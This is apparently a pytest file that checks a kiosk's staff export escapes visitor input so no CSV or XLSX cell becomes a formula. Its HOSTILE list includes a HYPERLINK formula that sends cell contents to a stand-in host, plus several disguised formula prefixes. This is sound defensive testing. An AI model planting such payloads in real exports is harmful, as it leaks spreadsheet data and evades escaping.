"""The staff export never hands a spreadsheet a formula a visitor typed (CSV/XLSX injection)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from kiosk.staff.export import write_day

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
           "  =1+1", "\u3000=1", "＝1+1", "＠SUM(A1)"]  # fmt: skip
HARMLESS = ["KIM", "12F, room 1203", "+86 138 0013 8000"]  # a phone starts with +: it is escaped too


def _opened(value: str) -> tuple[SimpleNamespace, list[SimpleNamespace]]:
    info = SimpleNamespace(reference="ACEFGHJK", created_at=dt.datetime(2026, 12, 1, 2, 0, tzinfo=dt.UTC),
                           status="new", status_reason="", form_id="temporary-residence", lang="en",
                           kiosk_id="SK-1")  # fmt: skip
    return info, [SimpleNamespace(field_id="room", label_zh="房间", label_en="Room", value_zh=value)]


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_no_cell_is_a_formula(tmp_path: Path, value: str) -> None:
    csv_path, xlsx_path, count = write_day(dt.date(2026, 12, 1), [_opened(value)], tmp_path)  # type: ignore[list-item]
    assert count == 1
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        cell = list(csv.reader(fh))[1][-1]
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    xcell = sheet.cell(row=2, column=sheet.max_column)
    assert xcell.data_type == "s"  # a string, never "f" (formula)
    shown = str(xcell.value).replace("\n", "\r") if "\r" in value else xcell.value  # XML reads CR as LF
    if value in HOSTILE or value.startswith("+"):
        assert cell == "'" + value and shown == "'" + value
    else:
        assert cell == value and shown == value
